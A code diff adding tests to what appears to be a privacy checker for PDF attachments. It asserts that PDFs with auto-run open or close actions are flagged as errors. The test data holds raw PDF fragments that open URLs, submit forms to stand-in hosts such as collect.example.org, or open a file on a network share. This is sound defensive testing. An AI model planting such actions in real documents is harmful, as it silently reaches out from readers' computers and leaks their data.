@@ -340,3 +340,29 @@ def test_a_pdf_without_scripts_passes(site):
     site.attach("b.pdf", pdf_with_text("JS JavaScript Launch"))
     site.item(attachments=[{"title": "通知", "file": "a.pdf"}, {"title": "名单", "file": "b.pdf"}])
     assert site.problems(privacy.SCRIPT.code) == []
+
+
+@pytest.mark.parametrize(("catalog", "more", "said"), [
+    (b"/OpenAction << /S /URI /URI (http://example.com/x) >> ", (), "自动打开网址的动作（地址在 example.com）"),
+    (b"/OpenAction 6 0 R ", (b"<< /S /SubmitForm /F << /FS /URL /F (https://collect.example.org/s) >> >>",),
+     "自动提交表单的动作（地址在 collect.example.org）"),
+    (b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >> ", (b"<< /S /URI /URI (http://chained.example.net/) >>",),
+     "自动打开网址的动作（地址在 chained.example.net）"),
+    (b"/AA << /WC 6 0 R >> ", (b"<< /S /GoToR /F (\\\\\\\\srv01\\\\share\\\\a.pdf) /D [0 /Fit] >>",),
+     "自动打开其他文件的动作（地址在 srv01）"),
+])
+def test_a_pdf_that_fetches_an_address_by_itself_is_an_error(site, catalog, more, said):
+    """An action run as the file opens or closes (/OpenAction, /AA), itself or chained by /Next, that opens an address,
+    submits the form, opens a file on a share or imports data, reaches out from the reader's computer (GK316)."""
+    site.attach("a.pdf", pdf_with_text("x", catalog, more))
+    site.item(attachments=[{"title": "通知", "file": "a.pdf"}])
+    [problem] = site.problems(privacy.REMOTE.code)
+    assert said in problem.message and problem.is_error
+
+
+def test_a_link_the_reader_clicks_is_let_be(site):
+    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /URI /URI (http://www.gov.cn/) >> >>"
+    data = pdf_with_text("x", more=(link,)).replace(b"/Resources", b"/Annots [6 0 R] /Resources", 1)
+    site.attach("a.pdf", data)
+    site.item(attachments=[{"title": "通知", "file": "a.pdf"}])
+    assert site.problems(privacy.REMOTE.code) == [] and site.problems(privacy.SCRIPT.code) == []
